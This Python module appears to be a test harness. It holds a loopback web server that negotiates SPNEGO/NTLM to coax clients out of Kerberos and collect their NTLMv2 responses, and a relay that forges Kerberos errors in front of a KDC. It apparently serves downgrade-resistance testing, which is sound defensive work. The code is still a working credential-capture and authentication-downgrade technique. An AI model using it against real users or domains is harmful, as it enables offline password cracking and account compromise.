# SPDX-License-Identifier: ISC
"""Who stands on the way: a web server that does all it can to get an NTLM response, and a
relay before the KDC that forges errors."""
import base64
import http.server
import socket
import struct
import threading
import time

import kdc
from faults import krb_error
from wire import AP_REQ, NTLM

NTLM_MECH = bytes.fromhex('060a2b06010401823702020a')
# UNICODE, SIGN, NTLM, ALWAYS_SIGN, a server's name, extended session security, TargetInfo,
# VERSION, 128, KEY_EXCH, 56.
CHALLENGE_FLAGS = 0xE28A8211 | 0x4
FILETIME_OF_1970 = 116444736000000000
RESPONSE_MIN = 44  # of NTLMv2: 16 bytes of proof, 28 of blob before the AV pairs


def der(tag, *parts):
    body = b''.join(parts)
    size = len(body)
    assert size < 65536
    if size < 128:
        head = bytes([tag, size])
    elif size < 256:
        head = bytes([tag, 0x81, size])
    else:
        head = bytes([tag, 0x82]) + size.to_bytes(2, 'big')
    return head + body


def neg_token_resp(token=None):
    """accept-incomplete, NTLM, and a token of NTLM."""
    fields = [der(0xa0, bytes.fromhex('0a0101')), der(0xa1, NTLM_MECH)]
    if token is not None:
        fields.append(der(0xa2, der(0x04, token)))
    return der(0xa1, der(0x30, *fields))


def av_pair(kind, value):
    return struct.pack('<HH', kind, len(value)) + value


def challenge():
    """A CHALLENGE ([MS-NLMP] 2.2.1.2) of a server ROGUE in the domain AD."""
    domain, name = 'AD'.encode('utf-16-le'), 'ROGUE'.encode('utf-16-le')
    now = int(time.time() * 10000000) + FILETIME_OF_1970
    info = av_pair(2, domain) + av_pair(1, name) + av_pair(7, struct.pack('<Q', now)) + \
        av_pair(0, b'')
    return NTLM + struct.pack('<IHHII8s8xHHI8s', 2, len(name), len(name), 56,
                              CHALLENGE_FLAGS, b'12345678', len(info), len(info),
                              56 + len(name), bytes.fromhex('0a0063450000000f')) + name + info


def read_field(message, at):
    length, _, offset = struct.unpack_from('<HHI', message, at)
    return message[offset:offset + length]


def ntlm_message(token, kind):
    """The NTLM message of this kind in a token; None if there is none."""
    at = token.find(NTLM + bytes([kind, 0, 0, 0]))
    return None if at < 0 else token[at:]


class Handler(http.server.BaseHTTPRequestHandler):
    """Takes NTLM wherever it gets it: a NEGOTIATE is challenged, and a Kerberos token is
    answered by the choice of NTLM."""
    protocol_version = 'HTTP/1.1'
    timeout = 100

    def log_message(self, *_):
        pass

    def answer(self, status, headers=()):
        self.send_response(status)
        for header in headers:
            self.send_header(*header)
        self.send_header('Content-Length', '0')
        self.end_headers()

    def demand(self, scheme, token=None):
        text = '' if token is None else ' ' + base64.b64encode(token).decode()
        self.answer(401, [('WWW-Authenticate', scheme + text)])

    def do_GET(self):
        rogue = self.server.rogue
        scheme, _, text = self.headers.get('Authorization', '').partition(' ')
        if rogue.redirect_to is not None:
            self.answer(302, [('Location', rogue.redirect_to)])
        elif text == '':
            self.demand(rogue.scheme)
        else:
            token = base64.b64decode(text)
            rogue.tokens.append(token)
            self.go_on(scheme, token)

    def go_on(self, scheme, token):
        is_spnego = not token.startswith(NTLM)
        if ntlm_message(token, 3) is not None:
            self.answer(200)
        elif ntlm_message(token, 1) is not None:
            self.demand(scheme, neg_token_resp(challenge()) if is_spnego else challenge())
        elif AP_REQ in token:
            self.demand(scheme, neg_token_resp())
        else:
            self.demand(scheme)


class Rogue:
    """A web server of the attacker's on a loopback port. redirect_to: it sends everybody
    there. tokens: what clients gave it, without base64."""

    def __init__(self, scheme='Negotiate', redirect_to=None):
        self.scheme = scheme
        self.redirect_to = redirect_to
        self.tokens = []
        self._server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
        self._server.daemon_threads = True
        self._server.rogue = self
        self.port = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._server.shutdown()
        self._server.server_close()

    def responses(self):
        """The NTLMv2 responses that the server got; from each the password can be guessed."""
        found = [ntlm_message(token, 3) for token in self.tokens]
        answers = [read_field(message, 20) for message in found if message is not None]
        assert all(len(answer) >= RESPONSE_MIN for answer in answers), 'not of NTLMv2'
        return answers

    def got_kerberos(self):
        return any(AP_REQ in token for token in self.tokens)


AS_REQ, TGS_REQ = 0x6a, 0x6c
PA_FX_FAST = bytes.fromhex('a10402020088')


class Forger:
    """Stands before a KDC and answers requests of one kind with a KRB-ERROR of its own;
    the others it hands on. with_fast: how many of the forged ones were armored."""

    def __init__(self, to_port, code, kind=TGS_REQ):
        self.code = code
        self.kind = kind
        self.forged = 0
        self.with_fast = 0
        self._to_port = to_port
        self._udp, tcp = kdc.both_kinds()
        tcp.close()
        self.port = self._udp.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            packet, who = self._udp.recvfrom(65536)
            self._udp.sendto(self._answer(packet), who)

    def _answer(self, packet):
        if packet[0] == self.kind:
            self.forged += 1
            self.with_fast += PA_FX_FAST in packet
            return krb_error(self.code, kdc.REALM)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as real:
            real.settimeout(60)
            real.sendto(packet, ('127.0.0.1', self._to_port))
            return real.recv(65536)
